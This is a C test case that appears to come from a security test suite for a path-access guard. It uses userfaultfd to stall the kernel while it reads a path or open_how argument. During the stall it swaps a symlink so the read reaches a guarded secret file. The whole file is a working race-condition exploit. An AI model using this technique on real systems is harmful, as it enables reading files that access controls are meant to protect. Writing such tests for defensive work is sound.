// tries: holds the kernel up while it reads the path, by a page that is not there, and moves what it names meanwhile
// target: read
// who: root
// variants: path how
// setup: sysctl -qw vm.unprivileged_userfaultfd=1

#include "attack.h"
#include <linux/openat2.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

enum { PAGE = 4096 };

static char *page;
static int faults;

/* Answers the fault with the page that is wanted, after `free/way` leads elsewhere. */
static void *serve(void *unused)
{
	char content[PAGE] __attribute__((aligned(PAGE))) = "";
	struct open_how how = { .flags = O_RDONLY };
	struct uffdio_copy copy = { .dst = (unsigned long)page, .src = (unsigned long)content, .len = PAGE };
	struct uffd_msg message;

	(void)unused;
	STEP(read(faults, &message, sizeof(message)));
	STEP(symlink("../guarded", "free/new"));
	STEP(rename("free/new", "free/way"));
	if (is("how"))
		memcpy(content, &how, sizeof(how));
	else
		strcpy(content, "free/way/secret");
	STEP(ioctl(faults, UFFDIO_COPY, &copy));
	return NULL;
}

int main(int argc, char **argv)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register area = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	pthread_t thread;
	int fd;

	begin(argc, argv);
	STEP(mkdir("free/harmless", 0700));
	copy_file("free/file", "free/harmless/secret", 0600);
	STEP(symlink("harmless", "free/way"));
	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		broken("no page");
	faults = STEP(syscall(SYS_userfaultfd, O_CLOEXEC));
	STEP(ioctl(faults, UFFDIO_API, &api));
	area.range.start = (unsigned long)page;
	area.range.len = PAGE;
	STEP(ioctl(faults, UFFDIO_REGISTER, &area));
	if (pthread_create(&thread, NULL, serve, NULL))
		broken("no thread");
	if (is("how"))
		fd = STEP(syscall(SYS_openat2, AT_FDCWD, "free/way/secret", page, sizeof(struct open_how)));
	else
		fd = STEP(open(page, O_RDONLY));
	print_all(fd);
	done();
}
